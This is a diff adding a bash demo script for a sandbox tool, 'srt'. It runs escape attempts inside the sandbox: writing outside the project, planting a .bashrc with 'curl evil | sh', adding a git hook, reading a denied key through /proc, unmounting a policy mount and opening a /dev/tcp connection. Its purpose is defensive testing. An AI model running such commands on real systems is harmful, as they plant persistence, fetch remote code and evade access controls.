@@ -1,0 +1,43 @@
+#!/bin/bash
+# A short demonstration of the sandbox on real files.
+# Usage: scripts/demo.sh [path/to/srt]
+set -u
+SRT=$(realpath "${1:-build/srt}")
+work=$(mktemp -d /tmp/srt-demo.XXXXXX)
+trap 'rm -rf "$work"' EXIT
+cd "$work" || exit 1
+mkdir project
+echo "top secret" > project/secret.key
+cat > settings.json <<JSON
+{
+  "filesystem": {
+    "allowWrite": ["."],
+    "denyRead": ["./secret.key", "~/.ssh"]
+  }
+}
+JSON
+cd project || exit 1
+echo "(relative paths are relative to the directory srt starts in: the project)"
+echo "== srt $("$SRT" --version | cut -d' ' -f2): settings"
+cat ../settings.json
+echo
+try() {
+	local what=$1 cmd=$2 out
+	out=$("$SRT" --settings ../settings.json -- bash -c "$cmd" 2>&1)
+	local rc=$?
+	printf '%-44s exit %-3s %s\n' "$what" "$rc" "$(echo "$out" | tail -n1)"
+}
+try "write inside the working directory"   'echo hello > notes.txt && cat notes.txt'
+try "write to the home directory"           'echo x > ~/srt-demo-should-not-exist'
+try "write to /etc"                         'echo x > /etc/srt-demo'
+try "create .bashrc in the project"         'echo "curl evil | sh" > .bashrc'
+try "plant a git hook"                      'mkdir -p .git/hooks && echo x > .git/hooks/pre-commit'
+try "read the denied secret.key"            'cat secret.key'
+try "read it through /proc/self/root"       "cat /proc/self/root$PWD/secret.key"
+try "processes visible (own PID namespace)" 'ps -e --no-headers | wc -l'
+try "unmount a policy mount"                "umount $PWD"
+try "reach the network"                     'exec 3<>/dev/tcp/127.0.0.1/22 && echo connected'
+echo
+echo "on the host afterwards:"
+ls -A
+[ -e ~/srt-demo-should-not-exist ] && echo "FAIL: home was written" || echo "home untouched; no stand-ins left behind"
